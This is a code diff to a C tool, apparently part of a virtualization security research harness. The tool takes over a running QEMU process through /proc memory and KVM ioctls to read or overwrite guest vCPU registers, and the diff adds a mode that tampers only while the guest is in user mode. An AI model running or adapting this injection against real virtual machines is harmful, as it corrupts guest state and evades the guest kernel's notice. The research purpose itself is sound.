@@ -6,8 +6,10 @@
  *   kvmstate PID SEED      what KVM says, and which of the patterns are in it
  *   kvmstate PID poison    changes all general and vector registers but RAX, RSP, RIP, by KVM_SET_REGS
  *                          and KVM_SET_FPU
+ *   kvmstate PID poison-user  the same, but only while the guest is in user mode: where a guest's kernel is poisoned it
+ *                          cannot tell of it any more
  *     SEED  of the patterns that the guest agent's `regs SEED ...` loads
- * Exit status: 0 a pattern was found or the registers were set, 1 no pattern found, 2 trouble.
+ * Exit status: 0 a pattern was found or the registers were set, 1 no pattern found or not in user mode, 2 trouble.
  */
 #include "attack.h"
 
@@ -159,11 +161,16 @@ static long poison(int fd) {
     return result == 0 ? get(fd, KVM_SET_REGS, &regs, sizeof regs) : result;
 }
 
+static bool in_user_mode(int fd) {
+    struct kvm_sregs sregs = {0};
+    return get(fd, KVM_GET_SREGS, &sregs, sizeof sregs) == 0 && (sregs.cs.selector & 3) == 3;
+}
+
 int main(int argc, char **argv) {
     if (argc != 3)
-        trouble(0, "usage: kvmstate PID SEED | kvmstate PID poison");
+        trouble(0, "usage: kvmstate PID SEED | kvmstate PID poison | kvmstate PID poison-user");
     pid = (pid_t)number(argv[1], "PID");
-    bool poisoning = !strcmp(argv[2], "poison");
+    bool user_only = !strcmp(argv[2], "poison-user"), poisoning = user_only || !strcmp(argv[2], "poison");
     uint64_t seed = poisoning ? 0 : number(argv[2], "SEED");
     mem = proc_open(pid, "mem", O_RDWR);
     syscall_at = find_syscall();
@@ -181,7 +188,7 @@ int main(int argc, char **argv) {
         trouble((int)-(long)area, "mmap in QEMU");
     }
     struct totals all = {0};
-    unsigned vcpus = 0, refused = 0;
+    unsigned vcpus = 0, refused = 0, elsewhere = 0;
     char *details = NULL;
     size_t details_size = 0;
     FILE *list = open_memstream(&details, &details_size);
@@ -192,6 +199,10 @@ int main(int argc, char **argv) {
         int fd;
         if (!one_vcpu("anon_inode:kvm-vcpu:%u", &cpu, d->d_name, &fd))
             continue;
+        if (user_only && !in_user_mode(fd)) {
+            elsewhere++;
+            continue;
+        }
         if (poisoning) {
             vcpus++;
             refused += poison(fd) != 0;
@@ -241,6 +252,8 @@ int main(int argc, char **argv) {
     fclose(list);
     if (poisoning) {
         printf("{\"tool\":\"kvmstate\",\"poisoned\":%u,\"refused_calls\":%u}\n", vcpus, refused);
+        if (elsewhere && !refused)
+            return NOT_FOUND;
         return vcpus && !refused ? 0 : TROUBLE;
     }
     bool found = all.gpr + all.vector + all.gs > 0;
